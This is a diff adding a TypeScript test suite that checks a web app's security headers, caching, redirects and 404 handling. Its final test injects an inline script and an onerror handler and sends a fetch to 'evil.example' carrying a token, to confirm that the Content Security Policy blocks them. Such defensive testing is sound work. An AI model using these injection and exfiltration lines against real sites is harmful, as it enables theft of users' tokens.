@@ -1,0 +1,63 @@
+import { stack } from '../support/stack';
+import { useVisits } from '../support/visits';
+
+const visits = useVisits();
+
+const get = (path: string) => fetch(stack.webOrigin + path, { redirect: 'manual' });
+
+it.each(['/', '/auth', '/app', '/nowhere', '/robots.txt'])('sends the headers that protect a visitor with %s', async (path) => {
+  const { headers } = await get(path);
+  const policy = headers.get('content-security-policy') ?? '';
+  expect(policy).toContain("default-src 'none'");
+  expect(policy).toContain("frame-ancestors 'none'");
+  expect(policy).toMatch(/script-src 'self'( 'sha256-[\w+/=]+')*;/);
+  expect(policy).toMatch(/style-src 'self'( 'sha256-[\w+/=]+')*;/);
+  expect(headers.get('strict-transport-security')).toMatch(/^max-age=\d{8}/);
+  expect(headers.get('x-content-type-options')).toBe('nosniff');
+  expect(headers.get('referrer-policy')).toBe('no-referrer');
+  expect(headers.get('permissions-policy')).toContain('camera=()');
+  expect(headers.get('cross-origin-opener-policy')).toBe('same-origin');
+});
+
+it('has a page asked for anew every time, and what its name identifies kept for good', async () => {
+  const page = await get('/auth');
+  expect(page.headers.get('cache-control')).toBe('no-cache');
+  const [script = ''] = /\/assets\/[\w.-]+\.js/.exec(await page.text()) ?? [];
+  expect(script).toMatch(/\.[0-9a-f]{8}\.js$/);
+  const answer = await get(script);
+  expect(answer.status).toBe(200);
+  expect(answer.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
+});
+
+it('knows each page by one address', async () => {
+  const answer = await get('/index.html');
+  expect(answer.status).toBe(301);
+  expect(new URL(answer.headers.get('location') ?? '', stack.webOrigin).pathname).toBe('/');
+});
+
+it('answers what is not there with status 404, and keeps what is hidden', async () => {
+  for (const path of ['/nowhere', '/app/nowhere', '/assets/gone.12345678.js', '/.built-from']) {
+    expect((await get(path)).status).toBe(404);
+  }
+});
+
+it('runs no script and sends nothing that the policy does not name', async () => {
+  const page = await visits.open('/auth', { troubles: [/Content Security Policy/, /^404: GET .*nowhere\.png/, /^failed: .*evil\.example/] });
+  await page.getByRole('tab', { name: 'Sign In' }).waitFor();
+  const outcome = await page.evaluate(async () => {
+    const script = document.createElement('script');
+    script.textContent = 'window.injected = true';
+    document.head.append(script);
+    const handler = document.createElement('img');
+    handler.setAttribute('onerror', 'window.injected = true');
+    handler.src = '/nowhere.png';
+    document.body.append(handler);
+    await new Promise((resolve) => handler.addEventListener('error', resolve));
+    const sent = await fetch('https://evil.example/?token=secret').then(
+      () => true,
+      () => false,
+    );
+    return { injected: 'injected' in window, sent };
+  });
+  expect(outcome).toEqual({ injected: false, sent: false });
+});
